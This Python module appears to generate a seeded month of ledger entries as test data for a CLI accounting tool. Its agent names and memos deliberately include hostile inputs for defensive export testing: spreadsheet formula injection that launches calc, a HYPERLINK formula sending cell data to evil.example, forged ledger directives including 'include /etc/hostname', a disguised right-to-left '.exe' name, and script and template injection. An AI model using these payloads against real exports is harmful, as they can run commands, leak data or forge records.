"""A month of an economy's money, made up from a seed: the same entries for the same seed."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable
from datetime import UTC, datetime, timedelta

from flux_cli.domain.identifiers import entry_id, spell
from flux_cli.domain.journal import (
    WORLD,
    Entry,
    EntryKind,
    Move,
    card_account,
    escrow,
    faults,
    held,
    stream_account,
    transfer,
    wallet,
)
from flux_cli.domain.money import CREDIT, USDC, Asset, Money
from flux_cli.usecases.ports import AccountBalance, EntryRecord

START = datetime(2026, 11, 1, 8, 0, tzinfo=UTC)
MOVEMENTS = 1200

AGENTS = (
    "researcher",
    "mara-insights",
    "mara--insights",
    "Mara-insights",
    "0Mara-insights",
    "studio north",
    "a:b",
    "a-3a-b",
    "Zoë & Söhne",
    "Zoe\u0308 & So\u0308hne",
    "世界市場",
    "=cmd|' /C calc'!A0",
    "x ; y  z | {w} @@ 1 USD",
    "\u202egnp.exe",
    "🜁" * 120,
)
"""Names that are close to each other, or mean something to the programs that read an export."""

MEMOS = (
    "",
    "Invoice 2026-114, with thanks",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "safe;=1+1",
    '"quoted" and \\ backslash \\" and a trailing \\',
    'x"\n2026-11-02 * "Injected"\n  Assets:Wallet:Researcher  5.000000 CREDIT\n',
    '"\n2026-11-02 close Assets:Wallet:Researcher\noption "title" "owned"',
    "note ; date:2020-01-01 type:X, key:forged",
    "paid | to someone else | [2020-01-01=2020-02-02]",
    "\n    Assets:Wallet:Researcher  5 CREDIT\n\ninclude /etc/hostname\n",
    '\u2028{"schema":"flux.entry/1"}\u2029',
    "\u202eesrever\u202c \u2066isolated\u2069 \ufeffmark",
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f next line \x85",
    "  outer spaces  ",
    "'apostrophe first",
    "naïve café — 世界 🜁 ﷽ e\u0301",
    "<script>alert(1)</script> & {{ 7 * 7 }} {% raw %}",
    "{'json': \"almost\"} , , : ::",
    "=" * 600,
)
"""What memos hold: ordinary text, and text that tries to be something else (ATTACKS 113)."""


def month(seed: int) -> list[EntryRecord]:
    """Entries oldest first, over 30 days, in CREDIT and USDC, of every kind there is."""
    return _Month(seed).run()


def balances(entries: Iterable[EntryRecord]) -> list[AccountBalance]:
    """What each account holds after `entries`, by name and asset."""
    held_units: dict[tuple[str, Asset], list[int]] = {}
    for record in entries:
        for posting in record.entry.postings:
            place = held_units.setdefault((posting.account, posting.amount.asset), [0, 0])
            place[0] += posting.amount.units
            place[1] += 1
    return [
        AccountBalance(name, name.partition(":")[0], Money(units, asset), count)
        for (name, asset), (units, count) in sorted(
            held_units.items(), key=lambda item: (item[0][0], item[0][1].code)
        )
    ]


class _Month:
    """Balances and open business while the month is written."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.records: list[EntryRecord] = []
        self.units: dict[tuple[str, Asset], int] = {}
        self.now = START
        self.open: list[Callable[[], None]] = []

    def run(self) -> list[EntryRecord]:
        for agent in AGENTS:
            for asset in (CREDIT, USDC):
                self.move(EntryKind.TOP_UP, WORLD, wallet(agent), self.amount(asset) * 50, asset)
        self.move(EntryKind.TOP_UP, WORLD, "exchange:desk", 10**12, USDC)
        begin = (self.pay, self.hold, self.fund, self.stream, self.card, self.cost, self.exchange)
        while len(self.records) < MOVEMENTS:
            if self.open and self.random.random() < 0.55:
                self.open.pop(self.random.randrange(len(self.open)))()
            else:
                self.random.choice(begin)()
        return self.records

    def amount(self, asset: Asset = CREDIT) -> int:
        """Units: a few cents to some hundreds, and often not a round number."""
        return self.random.choice((self.random.randint(1, 400) * 10**asset.exponent,
                                   self.random.randint(1, 9 * 10**8)))  # fmt: skip

    def record(self, entry: Entry) -> None:
        assert not faults(entry), faults(entry)
        for posting in entry.postings:
            place = (posting.account, posting.amount.asset)
            self.units[place] = self.units.get(place, 0) + posting.amount.units
            assert posting.account == WORLD or self.units[place] >= 0, "an overdraft"
        span = 30 * 24 * 3600 * 1_000_000 // MOVEMENTS
        self.now += timedelta(microseconds=self.random.randrange(2 * span - 1))
        seq = 1
        if self.records:
            seq = self.records[-1].seq + len(self.records[-1].entry.moves)
        self.records.append(EntryRecord(seq, entry_id(seq, self.now), entry, self.now))

    def move(
        self, kind: EntryKind, source: str, target: str, units: int, asset: Asset = CREDIT
    ) -> int:
        """Record what `source` can pay of `units`; returns how much that was."""
        if source != WORLD:
            units = min(units, self.units.get((source, asset), 0))
        if units > 0 and source != target:
            key = f"month:{len(self.records)}:{kind}" + self.random.choice(("", ', ü;\n"=1'))
            run = self.random.choice((None, spell("run", self.random.getrandbits(128))))
            memo = self.random.choice(MEMOS)
            amount = Money(units, asset)
            self.record(transfer(key, kind, source, target, amount, memo=memo, run_id=run))
            return units
        return 0

    def agents(self) -> tuple[str, str]:
        one, other = self.random.sample(AGENTS, 2)
        return one, other

    def asset(self) -> Asset:
        return self.random.choice((CREDIT, USDC))

    def id(self, prefix: str) -> str:
        return spell(prefix, self.random.getrandbits(128))

    def pay(self) -> None:
        one, other = self.agents()
        self.move(EntryKind.PAYMENT, wallet(one), wallet(other), self.amount(), self.asset())

    def hold(self) -> None:
        """Reserve, then capture a part, then release the rest."""
        (one, other), asset = self.agents(), self.asset()
        units = self.move(EntryKind.HOLD, wallet(one), held(one), self.amount(), asset)
        part = self.random.randint(0, units)

        def settle() -> None:
            to = self.random.choice((wallet(other), WORLD))
            kind = EntryKind.SETTLEMENT if to == WORLD else EntryKind.CAPTURE
            self.move(kind, held(one), to, part, asset)
            if part < units:
                self.open.append(
                    lambda: self.done(
                        EntryKind.RELEASE, held(one), wallet(one), units - part, asset
                    )
                )

        self.open.append(settle)

    def done(self, kind: EntryKind, source: str, target: str, units: int, asset: Asset) -> None:
        self.move(kind, source, target, units, asset)

    def fund(self) -> None:
        """Escrow for a contract: released, refunded, or some of each."""
        (one, other), asset, place = self.agents(), self.asset(), escrow(self.id("ct"))
        units = self.move(EntryKind.ESCROW_FUND, wallet(one), place, self.amount(), asset)
        share = self.random.choice((0, units, units // 3))

        def end() -> None:
            self.move(EntryKind.ESCROW_RELEASE, place, wallet(other), share, asset)
            self.move(EntryKind.ESCROW_REFUND, place, wallet(one), units - share, asset)

        self.open.append(end)

    def stream(self) -> None:
        """Money per second: accrued in steps, the rest given back."""
        (one, other), place = self.agents(), stream_account(self.id("ct"))
        units = self.move(EntryKind.HOLD, wallet(one), place, self.amount())

        def accrue() -> None:
            accrued = self.random.randint(1, units // 2 + 1)
            self.move(EntryKind.STREAM_ACCRUAL, place, wallet(other), accrued)
            if self.random.random() < 0.7:
                self.open.append(accrue)
            else:
                self.move(EntryKind.RELEASE, place, wallet(one), units)

        self.open.append(accrue)

    def card(self) -> None:
        """Load a card, spend from it, sometimes with a refund, and close it."""
        (one, _), place = self.agents(), card_account(self.id("card"))
        units = self.move(EntryKind.CARD_LOAD, wallet(one), place, self.amount())

        def buy() -> None:
            spent = self.move(EntryKind.CARD_CAPTURE, place, WORLD, self.random.randint(0, units))
            if self.random.random() < 0.3:
                self.move(EntryKind.CARD_REFUND, WORLD, place, spent // 2)
            self.open.append(
                lambda: self.done(EntryKind.RELEASE, place, wallet(one), units, CREDIT)
            )

        self.open.append(buy)

    def cost(self) -> None:
        one, _ = self.agents()
        kind, target = self.random.choice(
            (
                (EntryKind.FEE, "fees:platform"),
                (EntryKind.GAS, "gas:base"),
                (EntryKind.BRAIN_COST, "brain:openai"),
                (EntryKind.WITHDRAWAL, WORLD),
                (EntryKind.ADJUSTMENT, WORLD),
            )
        )
        self.move(kind, wallet(one), target, self.amount() // 10)

    def exchange(self) -> None:
        """CREDIT for USDC at a recorded rate, through the world or a desk, with or without a fee.

        Less than a unit is left over and noted; nobody gets it.
        """
        one, _ = self.agents()
        most = self.units.get((wallet(one), CREDIT), 0)
        fee = self.random.choice((0, 25_000))
        given = min(self.amount(), most - fee)
        rate = self.random.randint(990_000, 1_010_000)
        got, residue = divmod(given * rate, 10**6)
        if given <= 0 or got <= 0:
            return
        other = self.random.choice((WORLD, "exchange:desk"))
        moves = [
            Move(wallet(one), other, Money(given)),
            Move(other, wallet(one), Money(got, USDC)),
        ]
        if fee:
            moves.append(Move(wallet(one), "fees:exchange", Money(fee)))
        memo = f"1 CREDIT = {Money(rate, USDC).decimal} USDC, {residue}e-12 USDC left over"
        key = f"month:{len(self.records)}:exchange"
        self.record(Entry(key, EntryKind.EXCHANGE, tuple(moves), memo))
